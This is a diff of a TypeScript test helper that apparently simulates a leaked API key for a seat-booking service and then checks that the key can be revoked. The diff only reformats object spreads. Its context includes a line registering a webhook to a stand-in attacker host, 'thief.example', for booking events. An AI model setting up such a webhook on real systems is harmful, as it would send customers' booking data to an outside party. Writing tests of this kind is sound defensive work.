@@ -26,10 +26,15 @@ async function leakedKey() {
   const session = { allowedOrigin: page, expiresInSeconds: 14_400 };
   const console_ = await mint(`${event.path}/manage-sessions`, { ...session, capabilities: ['event:view'] });
   const designer = await mint('/v1/designer/sessions', {
-    ...{ ...session, workspaceId, chartId: shop.chart.id, authority: 'publish' },
+    ...session,
+    workspaceId,
+    chartId: shop.chart.id,
+    authority: 'publish',
   });
   const buyer = await mint(`${event.path}/buyer-access-sessions`, {
-    ...{ ...session, channelIds: [channel], includePublic: false },
+    ...session,
+    channelIds: [channel],
+    includePublic: false,
   });
   const { link, capability } = await mint(`${event.path}/channels/${channel}/access-links`, {});
   const { sub } = await mint('/v1/webhooks', { url: 'https://thief.example/hook', events: ['seat.booked'] });
@@ -38,13 +43,15 @@ async function leakedKey() {
     shop.call(method, path, { token: bearer, headers: { Origin: page } }).then(({ status }) => status);
   const redeem = () =>
     shop.call('POST', `/pub/events/${event.key}/access-links/redeem`, {
-      ...{ body: { capability }, headers: { Origin: page } },
+      body: { capability },
+      headers: { Origin: page },
     });
   return {
     event,
     ids: { console: console_.id, designer: designer.id, buyer: buyer.sessionId, link: link.id, webhook: sub.id },
     feed: new Watcher(`${shop.url}${event.path}/feed`, ['parterre.v1'], {
-      ...{ Authorization: `Bearer ${console_.token}`, Origin: page },
+      Authorization: `Bearer ${console_.token}`,
+      Origin: page,
     }),
     revoke: (query: string) =>
       shop.call('DELETE', `/v1/admin/organisations/${shop.own.id}/keys/${key.id}${query}`, { token: shop.rootToken }),
